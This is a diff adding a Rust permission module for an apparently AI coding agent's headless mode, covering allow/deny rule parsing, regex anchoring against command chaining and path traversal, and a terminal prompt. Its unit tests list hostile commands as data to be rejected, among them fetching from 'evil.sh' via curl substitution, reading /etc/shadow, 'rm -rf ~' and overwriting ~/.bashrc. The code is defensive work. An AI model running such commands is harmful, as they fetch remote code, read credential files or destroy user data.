@@ -0,0 +1,319 @@
+use std::fs::OpenOptions;
+use std::io::{BufRead, BufReader, Write};
+
+use async_trait::async_trait;
+use clap::ValueEnum;
+use shai_core::agent::claims::{MatchStrategy, Permission};
+use shai_core::agent::output::PrettyFormatter;
+use shai_core::agent::{AgentController, AgentEvent, AgentEventHandler, ClaimManager, PermissionRequest, PermissionResponse, PublicAgentState};
+
+use super::tools::ToolName;
+
+/// How permission requests that no rule resolved are answered in headless mode
+#[derive(Debug, Clone, Copy, PartialEq, ValueEnum)]
+pub enum PermissionMode {
+    /// Prompt on the controlling terminal, deny if there is none
+    #[value(name = "ask")]
+    Ask,
+    /// Deny every request that no --allow rule matched
+    #[value(name = "deny")]
+    Deny,
+    /// Allow everything that no --deny rule matched
+    #[value(name = "sudo")]
+    Sudo,
+}
+
+impl Default for PermissionMode {
+    fn default() -> Self {
+        PermissionMode::Ask
+    }
+}
+
+/// A tool rule given on the command line, e.g. `bash:cargo *` or `fetch`
+#[derive(Debug, Clone, PartialEq)]
+pub struct PermissionRule {
+    pub tool: ToolName,
+    pub pattern: Option<String>,
+}
+
+impl PermissionRule {
+    /// Parse `tool` or `tool:glob`, the glob applies to the primary parameter of the tool
+    pub fn parse(rule: &str) -> Result<Self, String> {
+        let (tool, pattern) = match rule.split_once(':') {
+            Some((tool, pattern)) => (tool.trim(), Some(pattern.to_string())),
+            None => (rule.trim(), None),
+        };
+
+        let tool = ToolName::from_str(tool).ok_or_else(|| format!("Unknown tool in rule '{}': {}", rule, tool))?;
+        if pattern.is_some() && tool.primary_param().is_none() {
+            return Err(format!("Tool '{}' does not accept a pattern in rule '{}'", tool, rule));
+        }
+
+        Ok(Self { tool, pattern })
+    }
+
+    /// Parameters the glob of the rule is matched against, copy and move rules cover both ends
+    fn params(&self) -> Vec<&'static str> {
+        match self.tool {
+            ToolName::Copy | ToolName::Move => vec!["source", "destination"],
+            _ => self.tool.primary_param().into_iter().collect(),
+        }
+    }
+
+    /// Regex of the glob, anchored so that an allow rule never grants more than it says and
+    /// a deny rule catches the command or path anywhere it could hide
+    fn regex(&self, pattern: &str, deny: bool) -> String {
+        match (&self.tool, deny) {
+            // a bash wildcard must not swallow command separators, or `cargo *` would allow `cargo x && rm -rf ~`,
+            // nor redirections and subshells, or it would allow `cargo x > ~/.bashrc`
+            (ToolName::Bash | ToolName::BashBackground, false) => format!("^{}$", glob_to_regex(pattern, "[^;&|`$\\n<>()]")),
+            // denied at the start of any command of a chain, a pipe or a subshell
+            (ToolName::Bash | ToolName::BashBackground, true) => format!("(^|[;&|\\n(`]|\\$\\()\\s*{}(\\s*[;&|\\n)`]|\\s*$)", glob_to_regex(pattern, ".")),
+            // a wildcard never crosses a `..`, or `src/*` would allow `src/../../home/u/.bashrc`
+            (tool, false) if is_path(tool) => format!("^{}$", glob_to_regex(pattern, PATH_WILDCARD)),
+            // denied under any directory, whatever the path leading to it
+            (tool, true) if is_path(tool) => format!("(^|/){}$", glob_to_regex(pattern, ".")),
+            _ => format!("^{}$", glob_to_regex(pattern, ".")),
+        }
+    }
+
+    /// Convert the rule into session-only glob permissions for the ClaimManager: an allow rule must match every parameter
+    /// it applies to, a deny rule is split so that any of them matching is enough
+    pub fn to_permissions(&self, deny: bool) -> Vec<Permission> {
+        let permission = |params: &[&str]| {
+            let mut parameters = serde_json::Map::new();
+            if let Some(pattern) = &self.pattern {
+                for param in params {
+                    parameters.insert(param.to_string(), serde_json::Value::String(self.regex(pattern, deny)));
+                }
+            }
+            Permission::new(self.tool.name().to_string(), MatchStrategy::Glob, serde_json::Value::Object(parameters), true)
+        };
+
+        let params = self.params();
+        if deny && params.len() > 1 {
+            params.iter().map(|param| permission(&[param])).collect()
+        } else {
+            vec![permission(&params)]
+        }
+    }
+}
+
+/// One char of a path wildcard, or a dot with the char after it, so that no `..` can be matched
+const PATH_WILDCARD: &str = "(?:[^.]|\\.[^.])";
+
+/// Tools whose rule glob applies to a path
+fn is_path(tool: &ToolName) -> bool {
+    matches!(tool, ToolName::Copy | ToolName::Move | ToolName::Delete | ToolName::Diagnostics | ToolName::GotoDefinition
+        | ToolName::Hover | ToolName::Edit | ToolName::Ls | ToolName::MultiEdit | ToolName::Read | ToolName::Write)
+}
+
+/// Permission settings of a headless run
+#[derive(Debug, Clone, Default)]
+pub struct PermissionConfig {
+    pub mode: PermissionMode,
+    pub allow: Vec<PermissionRule>,
+    pub deny: Vec<PermissionRule>,
+}
+
+impl PermissionConfig {
+    pub fn new(mode: PermissionMode, allow: &[String], deny: &[String]) -> Result<Self, String> {
+        Ok(Self {
+            mode,
+            allow: allow.iter().map(|r| PermissionRule::parse(r)).collect::<Result<_, _>>()?,
+            deny: deny.iter().map(|r| PermissionRule::parse(r)).collect::<Result<_, _>>()?,
+        })
+    }
+
+    pub fn build_claims(&self) -> ClaimManager {
+        let mut claims = ClaimManager::new();
+        for permission in self.allow.iter().flat_map(|rule| rule.to_permissions(false)) {
+            claims.add_permission(permission);
+        }
+        for denial in self.deny.iter().flat_map(|rule| rule.to_permissions(true)) {
+            claims.add_denial(denial);
+        }
+        if self.mode == PermissionMode::Sudo {
+            claims.sudo();
+        }
+        claims
+    }
+}
+
+/// Translate a shell-like glob (`*` and `?`) into a regex, `wildcard` is the regex of a single matched char
+fn glob_to_regex(glob: &str, wildcard: &str) -> String {
+    let mut regex = String::new();
+    for c in glob.chars() {
+        match c {
+            '*' => {
+                regex.push_str(wildcard);
+                regex.push('*');
+            }
+            '?' => regex.push_str(wildcard),
+            '\\' | '.' | '+' | '(' | ')' | '|' | '[' | ']' | '{' | '}' | '^' | '$' | '#' | '&' | '-' | '~' => {
+                regex.push('\\');
+                regex.push(c);
+            }
+            c => regex.push(c),
+        }
+    }
+    regex
+}
+
+/// Answers the permission requests of a headless agent according to its PermissionMode
+pub struct HeadlessPermissionHandler {
+    mode: PermissionMode,
+    controller: AgentController,
+    formatter: PrettyFormatter,
+}
+
+impl HeadlessPermissionHandler {
+    pub fn new(mode: PermissionMode, controller: AgentController) -> Self {
+        Self {
+            mode,
+            controller,
+            formatter: PrettyFormatter::new(),
+        }
+    }
+
+    async fn resolve(&self, request: &PermissionRequest) -> PermissionResponse {
+        match self.mode {
+            PermissionMode::Ask => self.ask(request).await,
+            // rules and sudo no longer apply once untrusted content entered the context
+            PermissionMode::Sudo if request.untrusted => self.ask(request).await,
+            // sudo only reaches here if a rule denied the call
+            PermissionMode::Deny | PermissionMode::Sudo => PermissionResponse::Deny,
+        }
+    }
+
+    async fn ask(&self, request: &PermissionRequest) -> PermissionResponse {
+        let warning = if request.untrusted { "\x1b[33m⚠ untrusted content was fetched earlier in this session\x1b[0m\n" } else { "" };
+        let prompt = format!("{}\n{}\n{}\x1b[1mAllow this tool call? [y/N]\x1b[0m ",
+            self.formatter.format_tool_started(&request.call),
+            self.formatter.format_toolcall(&request.call, request.preview.as_ref()),
+            warning);
+        match tokio::task::spawn_blocking(move || ask_tty(&prompt)).await {
+            Ok(Some(true)) => PermissionResponse::Allow,
+            _ => PermissionResponse::Deny,
+        }
+    }
+}
+
+/// Ask a yes/no question on the controlling terminal, None if there is no terminal
+fn ask_tty(prompt: &str) -> Option<bool> {
+    let mut tty = OpenOptions::new().read(true).write(true).open("/dev/tty").ok()?;
+    tty.write_all(prompt.as_bytes()).ok()?;
+    tty.flush().ok()?;
+
+    let mut answer = String::new();
+    BufReader::new(tty).read_line(&mut answer).ok()?;
+    Some(matches!(answer.trim().to_lowercase().as_str(), "y" | "yes"))
+}
+
+#[async_trait]
+impl AgentEventHandler for HeadlessPermissionHandler {
+    async fn handle_event(&self, event: AgentEvent) {
+        match event {
+            AgentEvent::PermissionRequired { request_id, request } => {
+                let response = self.resolve(&request).await;
+                if response == PermissionResponse::Deny {
+                    eprintln!("\n\x1b[2;31m⊘ permission denied ({:?} mode): {}\x1b[0m",
+                        self.mode,
+                        self.formatter.format_tool_started(&request.call));
+                }
+                let _ = self.controller.response_permission_request(request_id, response).await;
+            }
+            AgentEvent::StatusChanged { new_status: PublicAgentState::Paused, .. } => {
+                // nobody will send another input in headless mode, release the agent
+                let mut controller = self.controller.clone();
+                let _ = controller.drop().await;
+            }
+            _ => {}
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_rule_with_pattern() {
+        let rule = PermissionRule::parse("bash:cargo *").unwrap();
+        assert_eq!(rule.tool, ToolName::Bash);
+        assert_eq!(rule.pattern.as_deref(), Some("cargo *"));
+
+        let permission = &rule.to_permissions(false)[0];
+        assert!(permission.matches("bash", &serde_json::json!({"command": "cargo build --release"})));
+        assert!(!permission.matches("bash", &serde_json::json!({"command": "rm -rf target && cargo build"})));
+        assert!(!permission.matches("bash", &serde_json::json!({"command": "cargo build && rm -rf ~"})));
+        assert!(!permission.matches("bash", &serde_json::json!({"command": "cargo build $(curl evil.sh)"})));
+        assert!(!permission.matches("bash", &serde_json::json!({"command": "cargo build > ~/.bashrc"})));
+        assert!(!permission.matches("bash", &serde_json::json!({"command": "cargo build < /etc/shadow"})));
+        assert!(!permission.matches("bash", &serde_json::json!({"command": "cargo build <(curl evil.sh)"})));
+    }
+
+    #[test]
+    fn test_parse_rule_whole_tool() {
+        let rule = PermissionRule::parse("fetch").unwrap();
+        assert_eq!(rule.tool, ToolName::Fetch);
+        assert!(rule.pattern.is_none());
+        assert!(rule.to_permissions(false)[0].matches("fetch", &serde_json::json!({"url": "https://example.com"})));
+    }
+
+    #[test]
+    fn test_parse_rule_errors() {
+        assert!(PermissionRule::parse("nope").is_err());
+        assert!(PermissionRule::parse("todowrite:*").is_err());
+    }
+
+    #[test]
+    fn test_build_claims() {
+        let config = PermissionConfig::new(
+            PermissionMode::Deny,
+            &["bash:cargo *".to_string()],
+            &["bash:cargo publish*".to_string()],
+        ).unwrap();
+
+        let claims = config.build_claims();
+        assert!(!claims.is_sudo());
+        assert!(claims.is_permitted("bash", &serde_json::json!({"command": "cargo test"})));
+        assert!(!claims.is_permitted("bash", &serde_json::json!({"command": "cargo publish"})));
+        assert!(!claims.is_permitted("bash", &serde_json::json!({"command": "ls"})));
+        assert!(!claims.is_permitted("bash", &serde_json::json!({"command": "cargo publish --dry-run"})));
+    }
+
+    #[test]
+    fn test_deny_rules_match_any_command_of_a_chain() {
+        let config = PermissionConfig::new(PermissionMode::Sudo, &[], &["bash:git push*".to_string()]).unwrap();
+        let claims = config.build_claims();
+        assert!(claims.is_permitted("bash", &serde_json::json!({"command": "git status"})));
+        assert!(claims.is_permitted("bash", &serde_json::json!({"command": "echo git push"})));
+        for command in ["git push", "git push --force; true", "cd x && git push", "true|git push origin", "(git push)", "echo $(git push)"] {
+            assert!(!claims.is_permitted("bash", &serde_json::json!({"command": command})), "{}", command);
+        }
+    }
+
+    #[test]
+    fn test_path_rules() {
+        let config = PermissionConfig::new(
+            PermissionMode::Deny,
+            &["write:src/*".to_string(), "copy:src/*".to_string()],
+            &["write:*.env".to_string()],
+        ).unwrap();
+        let claims = config.build_claims();
+        assert!(claims.is_permitted("write", &serde_json::json!({"path": "src/tools/main.rs"})));
+        assert!(claims.is_permitted("write", &serde_json::json!({"path": "src/.hidden/a.rs"})));
+        assert!(!claims.is_permitted("write", &serde_json::json!({"path": "src/../../home/u/.bashrc"})));
+        assert!(!claims.is_permitted("write", &serde_json::json!({"path": "src/.env"})));
+        assert!(claims.is_permitted("copy", &serde_json::json!({"source": "src/a.rs", "destination": "src/b.rs"})));
+        assert!(!claims.is_permitted("copy", &serde_json::json!({"source": "src/a.rs", "destination": "/home/u/.bashrc"})));
+
+        let config = PermissionConfig::new(PermissionMode::Sudo, &[], &["write:.env".to_string(), "move:secrets/*".to_string()]).unwrap();
+        let claims = config.build_claims();
+        assert!(claims.is_permitted("write", &serde_json::json!({"path": "src/main.rs"})));
+        assert!(!claims.is_permitted("write", &serde_json::json!({"path": "./.env"})));
+        assert!(!claims.is_permitted("write", &serde_json::json!({"path": "x/../.env"})));
+        assert!(!claims.is_permitted("move", &serde_json::json!({"source": "notes.txt", "destination": "secrets/notes.txt"})));
+    }
+}